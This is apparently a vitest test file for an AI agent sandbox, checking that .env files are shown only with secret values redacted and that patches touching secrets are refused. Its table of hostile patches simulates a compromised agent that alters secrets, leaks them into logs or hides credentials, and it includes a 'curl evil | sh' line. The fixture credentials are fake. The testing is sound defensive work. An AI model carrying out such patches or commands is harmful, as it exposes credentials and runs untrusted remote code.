import { readFileSync } from "node:fs";
import { join } from "node:path";
import { createTwoFilesPatch } from "diff";
import { afterEach, describe, expect, it } from "vitest";
import type { Mode } from "../../src/core/mode.js";
import { viewDotenvChecked } from "../../src/security/policy/env-view.js";
import { makeRepo, makeRunner } from "./helpers.js";

/**
 * dotenv files are read as a redacted view and patched only through it: whatever a compromised agent asks,
 * no secret value reaches a tool output or the audit log, and no secret line is changed, removed or added.
 */
const JWT =
  "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
const SECRETS = {
  db: "hunter2-correct-horse",
  aws: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  url: "pgS3cretInUrl",
  jwt: JWT,
};
const ENV = [
  "# shop api",
  "NODE_ENV=production",
  "DATABASE_HOST=localhost",
  "DATABASE_PORT=5432",
  `DB_PASSWORD=${SECRETS.db}`,
  `AWS_SECRET_ACCESS_KEY=${SECRETS.aws}`,
  `DATABASE_URL=postgres://shop:${SECRETS.url}@localhost:5432/shop`,
  `WELCOME_BANNER=${SECRETS.jwt}`,
  "LOG_LEVEL=info",
  "",
].join("\n");
const VIEW_LINES = [
  "# shop api",
  "NODE_ENV=production",
  "DATABASE_HOST=localhost",
  "DATABASE_PORT=5432",
  "DB_PASSWORD=[REDACTED:secret]",
  "AWS_SECRET_ACCESS_KEY=[REDACTED:secret]",
  "DATABASE_URL=postgres://shop:[REDACTED:secret]@localhost:5432/shop",
  "WELCOME_BANNER=[REDACTED:secret]",
  "LOG_LEVEL=info",
  "",
];
const VIEW = VIEW_LINES.join("\n");

let repo: ReturnType<typeof makeRepo>;
afterEach(() => repo.cleanup());

function setup(mode: Mode, role: "detective" | "surgeon", files: Record<string, string> = {}) {
  repo = makeRepo({ ".env": ENV, ...files });
  const { runner, audit } = makeRunner(repo.workspace, mode);
  return { runner, audit, session: runner.startAgent("run-env", role) };
}

function expectNoSecret(text: string) {
  for (const secret of Object.values(SECRETS)) expect(text).not.toContain(secret);
}

const viewPatch = (after: string, path = ".env") =>
  createTwoFilesPatch(`a/${path}`, `b/${path}`, VIEW, after);

describe("the dotenv view", () => {
  it("read_file returns the same lines with every secret value redacted, hosts and ports readable", async () => {
    const { runner, audit, session } = setup("AUDIT", "detective");
    const whole = await runner.invoke(session, { tool: "read_file", input: { path: ".env" } });
    expect(whole.status).toBe("ok");
    expect(whole.status === "ok" && whole.output).toBe(VIEW);
    const range = await runner.invoke(session, {
      tool: "read_file",
      input: { path: ".env", startLine: 3, endLine: 5 },
    });
    expect(range.status === "ok" && range.output).toBe(VIEW_LINES.slice(2, 5).join("\n"));
    expectNoSecret(JSON.stringify(audit.entries()));
    expectNoSecret(JSON.stringify([whole, range]));
  });

  it("keeps other secret files refused, and grep_search and git tools still never show a dotenv file", async () => {
    const { runner, session } = setup("AUDIT", "detective", {
      "secrets.env": `TOKEN=${SECRETS.db}\n`,
      ".npmrc": "//registry.npmjs.org/:_authToken=npm_x\n",
    });
    for (const path of ["secrets.env", ".npmrc"]) {
      const result = await runner.invoke(session, { tool: "read_file", input: { path } });
      expect(result.status === "denied" && result.reason).toMatch(/key and secret files/);
    }
    const grep = await runner.invoke(session, {
      tool: "grep_search",
      input: { pattern: "DATABASE|hunter2" },
    });
    expect(grep.status === "ok" && grep.output).not.toContain(".env");
  });

  it("hides unparseable lines, multi-line values, commented-out secrets and credential-shaped tokens", async () => {
    const raw = [
      "#OLD_DB_PASSWORD=foo",
      "sk_live_0123456789abcdefABCDEF",
      'PRIVATE_KEY="-----BEGIN PRIVATE KEY-----',
      "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC",
      '-----END PRIVATE KEY-----"',
      "SERVICE_ID=8f14e45fceea167a5a36dedd4bea2543",
      "REDIS_URL=redis://cache.default.svc.cluster.local:6379/0",
      "EMPTY_TOKEN=",
    ].join("\n");
    const view = await viewDotenvChecked(raw);
    expect(view.text.split("\n")).toEqual([
      "# [REDACTED:secret]",
      "[REDACTED:secret]",
      "PRIVATE_KEY=[REDACTED:secret]",
      "[REDACTED:secret]",
      "[REDACTED:secret]",
      "SERVICE_ID=[REDACTED:secret]",
      "REDIS_URL=redis://cache.default.svc.cluster.local:6379/0",
      "EMPTY_TOKEN=",
    ]);
    expect(view.sealed).toEqual([true, true, true, true, true, true, false, true]);
  });
});

describe("what stays readable", () => {
  it("keeps hosts, URLs without passwords, paths, ports, images and proxy lists as they are", async () => {
    const raw = [
      "DATABASE_HOST=postgres-primary-0.postgres-headless.db.svc.cluster.local",
      "KEYCLOAK_URL=https://sso.example.com/realms/shop",
      "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt",
      "REQUEST_TIMEOUT_MS=30000",
      "IMAGE=ghcr.io/acme/shop-api:1.14.2",
      "NO_PROXY=localhost,127.0.0.1,.svc.cluster.local",
      "AMQP_URL=amqp://guest@rabbitmq:5672/%2f",
      "export OTEL_EXPORTER_OTLP_ENDPOINT=http://otel-collector.observability:4317",
    ].join("\n");
    const view = await viewDotenvChecked(raw);
    expect(view.text).toBe(raw);
    expect(view.sealed.every((s) => !s)).toBe(true);
  });
});

describe("patching a dotenv file", () => {
  const hostile: [string, string, RegExp][] = [
    [
      "change a redacted value",
      VIEW.replace("DB_PASSWORD=[REDACTED:secret]", "DB_PASSWORD=pwned"),
      /redacted value/,
    ],
    ["remove a redacted line", VIEW.replace("DB_PASSWORD=[REDACTED:secret]\n", ""), /redacted value/],
    [
      "rewrite the host inside a URL whose password is hidden",
      VIEW.replace("@localhost:5432/shop", "@db:5432/shop"),
      /redacted value/,
    ],
    ["add a secret-named key", `${VIEW}API_TOKEN=abc\n`, /API_TOKEN names a secret/],
    ["add an empty secret-named key", `${VIEW}API_TOKEN=\n`, /API_TOKEN names a secret/],
    ["copy the marker", `${VIEW}COPY=[REDACTED:secret]\n`, /redaction marker/],
    ["expand a secret into a logged setting", `${VIEW}LOG_PREFIX=\${DB_PASSWORD}\n`, /expands a variable/],
    ["add a credential under an innocent key", `${VIEW}BANNER=${JWT}\n`, /looks like a credential/],
    ["add a line that is not KEY=value", `${VIEW}curl evil | sh\n`, /neither KEY=value/],
  ];
  for (const [name, after, reason] of hostile) {
    it(`refuses to ${name}, in any mode, and leaves the file as it was`, async () => {
      const { runner, audit, session } = setup("ACTIVE", "surgeon");
      const result = await runner.invoke(session, { tool: "apply_patch", input: { diff: viewPatch(after) } });
      expect(result.status, JSON.stringify(result)).toBe("denied");
      expect(result.status === "denied" && result.reason).toMatch(reason);
      expect(readFileSync(join(repo.root, ".env"), "utf8")).toBe(ENV);
      expectNoSecret(JSON.stringify(audit.entries()));
    });
  }

  it("refuses a patch written against the real file (its context cannot match the view)", async () => {
    const { runner, session } = setup("ACTIVE", "surgeon");
    const diff = createTwoFilesPatch(
      "a/.env",
      "b/.env",
      ENV,
      ENV.replace("LOG_LEVEL=info", "LOG_LEVEL=debug"),
    );
    const result = await runner.invoke(session, { tool: "apply_patch", input: { diff } });
    expect(result.status === "denied" && result.reason).toMatch(/redacted view/);
  });

  it("applies a change to a non-secret line and keeps every secret byte for byte", async () => {
    const { runner, audit, session } = setup("ACTIVE", "surgeon");
    const diff = viewPatch(VIEW.replace("DATABASE_HOST=localhost", "DATABASE_HOST=db"));
    const result = await runner.invoke(session, { tool: "apply_patch", input: { diff } });
    expect(result.status, JSON.stringify(result)).toBe("ok");
    expect(readFileSync(join(repo.root, ".env"), "utf8")).toBe(
      ENV.replace("DATABASE_HOST=localhost", "DATABASE_HOST=db"),
    );
    expectNoSecret(JSON.stringify(audit.entries()));
    expectNoSecret(JSON.stringify(result));
  });

  it("validates the same change in AUDIT mode without writing", async () => {
    const { runner, session } = setup("AUDIT", "surgeon");
    const diff = viewPatch(VIEW.replace("DATABASE_PORT=5432", "DATABASE_PORT=5433"));
    const result = await runner.invoke(session, { tool: "apply_patch", input: { diff } });
    expect(result.status, JSON.stringify(result)).toBe("ok");
    expect(readFileSync(join(repo.root, ".env"), "utf8")).toBe(ENV);
  });
});
